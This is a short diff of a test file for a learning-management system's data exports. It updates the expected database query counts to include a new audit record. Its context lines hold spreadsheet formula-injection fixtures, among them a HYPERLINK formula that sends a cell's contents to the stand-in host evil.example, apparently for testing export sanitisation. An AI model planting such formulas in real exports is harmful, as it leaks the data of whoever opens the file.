@@ -24,9 +24,10 @@ from lms.tracking.tests.conftest import officer, overdue_assignment
 
 pytestmark = pytest.mark.django_db
 
-#: Session, user, administration, programmes (3), then the rows: the matrix streams the
-#: officers and spends two queries per chunk; progress is one streamed query.
-EXPORT_QUERIES = {"matrix": 9, "progress": 4}
+#: Session, user, administration, programmes (3), the export's audit record (one INSERT,
+#: lms/audit), then the rows: the matrix streams the officers and spends two queries per
+#: chunk; progress is one streamed query.
+EXPORT_QUERIES = {"matrix": 10, "progress": 5}
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 SUM = "+SUM(1,2)"
